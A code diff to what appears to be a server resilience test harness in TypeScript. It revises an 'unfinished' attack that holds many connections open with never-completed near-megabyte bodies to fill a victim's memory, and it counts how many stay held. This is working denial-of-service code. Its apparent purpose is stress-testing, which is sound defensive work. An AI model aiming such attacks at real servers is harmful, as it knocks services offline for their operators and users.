@@ -1,5 +1,5 @@
 import type { Attack, Target } from './attack.ts';
-import { RawConnection, signHead } from './raw-connection.ts';
+import { leftOpen, RawConnection, signHead } from './raw-connection.ts';
 
 const MEGABYTE = 1024 * 1024;
 const PIECE = Buffer.alloc(64 * 1024, ' ');
@@ -39,8 +39,11 @@ export const oversized = (async (target, { rounds = 0 }) => {
   return { statuses: [...statuses].sort(), sentMegabytes: Math.round(sentBytes / MEGABYTE) };
 }) satisfies Attack;
 
+/** As many as a victim has room for: 64 MiB. */
+const ROOM = 64;
+
 /** Bodies just below the limit that are never finished: each one lies in the memory of the victim. */
-export const unfinished = (async (target: Target, { connections = 0, holdMs = 0 }) => {
+export const unfinished = (async (target: Target, { connections = 0, patienceMs = 0 }) => {
   const opened = await RawConnection.openMany(target, connections);
   const body = Buffer.alloc(MEGABYTE - 100, ' ');
   await Promise.all(
@@ -55,9 +58,8 @@ export const unfinished = (async (target: Target, { connections = 0, holdMs = 0 
       });
     }),
   );
-  await new Promise((resolve) => setTimeout(resolve, holdMs));
+  const heldAtTheEnd = await leftOpen(opened, ROOM, patienceMs);
   const sent = opened.filter(({ socket }) => socket.bytesWritten > MEGABYTE / 2).length;
-  const heldAtTheEnd = opened.filter(({ closed }) => !closed).length;
   await Promise.all(opened.map((connection) => connection.destroy()));
   return { opened: opened.length, sent, heldAtTheEnd };
 }) satisfies Attack;
